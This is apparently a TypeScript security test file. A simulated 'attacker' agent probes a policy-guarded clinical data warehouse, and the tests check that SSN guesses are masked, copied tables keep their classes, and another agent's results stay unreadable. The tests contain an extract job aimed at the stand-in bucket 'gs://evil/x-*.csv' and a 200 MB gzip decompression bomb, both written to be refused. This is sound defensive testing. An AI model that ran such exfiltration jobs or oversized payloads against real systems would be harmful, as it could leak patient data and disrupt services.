/**
 * Threat-model rows 9, 28, 43, 44 and 46 without SQL: rows and jobs that an agent sends (insertAll, load, copy, extract), read back
 * by whatever door there is.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { PROJECT, type Rig } from "../rig.ts";
import { refusal, type StorageClient, storageClient, tableName } from "../storage-client.ts";
import { type Answer, Attacker, assertRefused, withPatients } from "./attacker.ts";
import { type OpenClinic, OWN_AND_TOKENS, openClinic } from "./open-clinic.ts";
import type { ProtectedValues } from "./protected-values.ts";

const POLICY = `
@id("open-write")
@approval("none")
permit (principal in Group::"clinical-agents", action in [Action::"write", Action::"describe"], resource in Dataset::"demo-clinic.workspace");

${OWN_AND_TOKENS}
@id("encrypted")
@mask("fpe")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"read", resource in Dataset::"demo-clinic.workspace")
when { resource in DataClass::"phi.ssn" };

@id("rows")
@approval("none")
permit (principal in Group::"clinical-agents", action in [Action::"infer", Action::"aggregate"], resource in Dataset::"demo-clinic.workspace")
when { resource.path == "*" || !resource.classified };
`;
const V2 = `/bigquery/v2/projects/${PROJECT}`;
const NOT_FOUND = 5;

describe("an agent that sends rows and jobs", () => {
  let clinic: OpenClinic;
  let rig: Rig;
  let secrets: ProtectedValues;
  let agent: Attacker;
  let storage: StorageClient;
  before(async () => {
    clinic = await openClinic({
      "workspace.cedar": () => "",
      "clinical.cedar": () => "",
      "open.cedar": () => POLICY,
    });
    ({ rig, secrets, agent } = clinic);
    storage = await storageClient(rig, "care-summary-agent");
    for (const sql of [
      "CREATE TABLE workspace.taken AS SELECT mrn, ssn FROM p",
      "CREATE TABLE workspace.over AS SELECT mrn, ssn FROM p",
      "CREATE TABLE workspace.plain (mrn STRING, ssn STRING)",
      "CREATE TABLE workspace.second (mrn STRING, ssn STRING)",
    ])
      await done(sql);
  });
  after(async () => {
    await storage.close();
    await clinic.close();
  });

  async function done(sql: string): Promise<void> {
    const loot = await agent.attack(withPatients(sql));
    assert.equal(loot.session?.state, "done", `${sql}: ${loot.last.body.slice(0, 400)}`);
  }
  const data = (table: string) => agent.send("GET", `${V2}/datasets/workspace/tables/${table}/data`);
  const insert = (table: string, rows: readonly object[]) =>
    agent.send("POST", `${V2}/datasets/workspace/tables/${table}/insertAll`, { body: { rows } });
  const cells = (answer: Answer): unknown[] =>
    (JSON.parse(answer.body) as { rows?: { f: { v: unknown }[] }[] }).rows?.flatMap(({ f }) => f.map(({ v }) => v)) ??
    [];

  async function job(configuration: object): Promise<void> {
    const answer = await agent.send("POST", `${V2}/jobs`, { body: { configuration } });
    assert.equal(answer.status, 200, answer.body.slice(0, 400));
    const { jobReference } = JSON.parse(answer.body) as { jobReference: { jobId: string } };
    await agent.results(jobReference.jobId);
  }
  const reference = (tableId: string, datasetId = "workspace") => ({ projectId: PROJECT, datasetId, tableId });

  it("row 43: a guess sent by insertAll comes back as no token and no ciphertext, from no door", async () => {
    const guess = { mrn: secrets.sample.mrn, ssn: secrets.sample.ssn };
    assert.equal((await insert("taken", [{ json: guess }])).status, 200);
    const found = cells(await data("taken"));
    assert.ok(found.length >= 42);
    assert.deepEqual([...new Set(found)], [null]);
    const table = await storage.read(await storage.open(tableName("workspace.taken")));
    assert.ok(table.numRows >= 21);
    for (const row of table.toArray()) assert.deepEqual([row.mrn, row.ssn], [null, null]);
  });

  it("row 28: a table that is copied over keeps the classes it had, also once it holds nothing of them", async () => {
    await job({
      copy: {
        sourceTable: reference("plain"),
        destinationTable: reference("over"),
        writeDisposition: "WRITE_TRUNCATE",
      },
    });
    await insert("over", [{ json: { mrn: "guess", ssn: "123-45-6789" } }]);
    assert.deepEqual([...new Set(cells(await data("over")))], [null]);
    await job({ copy: { sourceTable: reference("over"), destinationTable: reference("over_again") } });
    assert.deepEqual([...new Set(cells(await data("over_again")))], [null]);
  });

  it("rows of which the table has no field aren't said to be written", async () => {
    const before = rig.warehouse.requests.length;
    for (const rows of [[{ json: {} }], [{ json: { unknown: 1 } }, { json: {} }]]) {
      const body = { rows, ignoreUnknownValues: true };
      assertRefused(await agent.send("POST", `${V2}/datasets/workspace/tables/plain/insertAll`, { body }), 400);
    }
    assert.ok(rig.warehouse.requests.slice(before).every(({ method }) => method === "GET"));
  });

  it("the same insertIds are other rows in another table", async () => {
    for (const table of ["plain", "second"]) {
      const answer = await insert(table, [{ insertId: "one", json: { mrn: table } }]);
      assert.equal(answer.body, '{"kind":"bigquery#tableDataInsertAllResponse"}');
      assert.ok(cells(await data(table)).includes(table));
    }
  });

  it("row 44: another agent's result is read, copied and extracted by nobody else", async () => {
    const started = await agent.query("SELECT 'x' AS word");
    const { jobReference } = JSON.parse(started.body) as { jobReference: { jobId: string } };
    await agent.results(jobReference.jobId);
    const described = JSON.parse((await agent.job(jobReference.jobId)).body) as {
      configuration: { query: { destinationTable: { datasetId: string; tableId: string } } };
    };
    const { datasetId, tableId } = described.configuration.query.destinationTable;
    const own = await agent.send("GET", `${V2}/datasets/${datasetId}/tables/${tableId}/data`);
    assert.deepEqual(cells(own), ["x"]);
    const other = new Attacker(rig, await rig.token("research-agent"), secrets);
    for (const path of [`${datasetId}/tables/${tableId}/data`, `${datasetId}/tables/${tableId}`])
      assertRefused(await other.send("GET", `${V2}/datasets/${path}`), 404);
    const theirs = await storageClient(rig, "research-agent");
    assert.equal((await refusal(theirs.open(tableName(`${datasetId}.${tableId}`))))?.code, NOT_FOUND);
    await theirs.close();
    for (const who of [agent, other])
      for (const configuration of [
        { copy: { sourceTable: reference(tableId, datasetId), destinationTable: reference("stolen") } },
        { extract: { sourceTable: reference(tableId, datasetId), destinationUri: "gs://evil/x-*.csv" } },
      ])
        assertRefused(await who.send("POST", `${V2}/jobs`, { body: { configuration } }));
    other.close();
  });

  it("row 46: a body that unpacks to more than may come is refused, and so is one that is no gzip", async () => {
    const headers = { "content-type": "application/json", "content-encoding": "gzip" };
    const raw = (body: Buffer) =>
      fetch(`${rig.url}${V2}/queries`, {
        method: "POST",
        headers: { ...headers, authorization: `Bearer ${agent.token}` },
        body: new Uint8Array(body),
      });
    assert.equal((await raw(gzipSync(Buffer.alloc(200_000_000, " ")))).status, 413);
    const query = gzipSync(JSON.stringify({ query: "SELECT 1 AS one", useLegacySql: false }));
    for (const body of [Buffer.from("{}"), query.subarray(0, -3), Buffer.alloc(0)])
      assert.equal((await raw(body)).status, 400);
    assert.equal((await raw(query)).status, 200);
  });
});
